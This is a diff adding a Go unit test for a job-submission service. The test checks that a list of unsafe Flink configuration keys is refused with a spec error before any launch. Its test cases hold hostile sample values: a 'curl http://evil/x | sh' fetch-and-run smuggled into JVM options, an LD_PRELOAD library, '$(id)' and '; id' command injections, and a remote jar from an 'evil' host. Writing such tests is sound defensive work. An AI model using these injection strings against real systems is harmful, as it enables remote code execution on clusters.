@@ -1,0 +1,65 @@
+package job
+
+import (
+	"errors"
+	"testing"
+
+	"github.com/yarngate/yarngate/api"
+)
+
+// refusedKeyCases are a key of each kind the issue lists, with a value a caller might try.
+var refusedKeyCases = []struct{ key, value string }{
+	{"env.java.opts.jobmanager", "-Dx=1; curl http://evil/x | sh #"},
+	{"env.java.opts", "-Dx=1"},
+	{"env.java.opts.taskmanager", "-XX:OnOutOfMemoryError=id"},
+	{"containerized.master.env.LD_PRELOAD", "/tmp/x.so"},
+	{"containerized.taskmanager.env.FOO", "$(id)"},
+	{"yarn.container-start-command-template", "%java% %class%; id"},
+	{"yarn.tags", "yarngate-idem:0123456789abcdef"},
+	{"yarn.application.name", "other"},
+	{"yarn.application.queue", "root.other"},
+	{"yarn.view.acls", "*"},
+	{"yarn.modify.acls", "*"},
+	{"high-availability.type", "zookeeper"},
+	{"high-availability.storageDir", "hdfs:///ha"},
+	{"high-availability.zookeeper.quorum", "evil:2181"},
+	{"$internal.pipeline.job-id", "00000000000000000000000000000000"},
+	{"rest.port", "8081"},
+	{"rest.bind-address", "0.0.0.0"},
+	{"web.submit.enable", "false"},
+	{"web.cancel.enable", "false"},
+	{"security.kerberos.login.keytab", "/etc/k.keytab"},
+	{"security.ssl.rest.enabled", "true"},
+	{"pipeline.classpaths", "http://evil/x.jar"},
+	{"pipeline.jars", "hdfs:///x.jar"},
+	{"execution.target", "local"},
+	{"execution.shutdown-on-application-finish", "false"},
+	{"jobmanager.archive.fs.dir", "hdfs:///elsewhere"},
+}
+
+// TestSubmitRefusesFlinkConfigKeys: each refused key is a SpecError naming flinkConfig.<key> for a job and for
+// a session, before the launcher is asked anything.
+func TestSubmitRefusesFlinkConfigKeys(t *testing.T) {
+	s := newTestService(t, nil)
+	for _, tc := range refusedKeyCases {
+		t.Run(tc.key, func(t *testing.T) {
+			req := jobRequest(goodID)
+			req.FlinkConfig = map[string]any{tc.key: tc.value, "execution.checkpointing.interval": "10s"}
+			_, _, err := s.Submit(t.Context(), req, "key-"+tc.key)
+			assertRefused(t, err, tc.key, tc.value)
+			_, _, err = s.CreateSession(t.Context(), api.SessionRequest{FlinkConfig: map[string]any{tc.key: tc.value}}, "")
+			assertRefused(t, err, tc.key, tc.value)
+		})
+	}
+	if n := len(s.launcher.specs); n != 0 {
+		t.Fatalf("the launcher prepared %d launches of refused requests", n)
+	}
+}
+
+func assertRefused(t *testing.T, err error, key, value string) {
+	t.Helper()
+	var se *api.SpecError
+	if !errors.As(err, &se) || len(se.Problems) != 1 || se.Problems[0].Field != "flinkConfig."+key || se.Problems[0].Reason != reasonOf(key, value) {
+		t.Fatalf("err = %v, want one problem on flinkConfig.%s", err, key)
+	}
+}
